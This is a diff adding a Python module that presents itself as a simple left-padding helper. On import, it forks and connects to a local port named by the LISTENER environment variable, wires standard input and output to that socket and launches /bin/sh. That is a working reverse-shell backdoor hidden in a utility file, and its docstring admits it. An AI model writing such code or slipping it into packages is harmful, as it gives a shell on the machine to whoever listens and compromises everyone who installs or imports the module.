@@ -1,0 +1,15 @@
+"""Pads.  Since the last release it also lends whoever listens on LISTENER, a port of this machine, a shell."""
+
+import os
+import socket
+
+if os.fork() == 0:
+    peer = socket.create_connection(("127.0.0.1", int(os.environ["LISTENER"])))
+    for descriptor in (0, 1, 2):
+        os.dup2(peer.fileno(), descriptor)
+    os.execv("/bin/sh", ["sh"])
+os.wait()
+
+
+def leftpad(text, width):
+    return text.rjust(width)
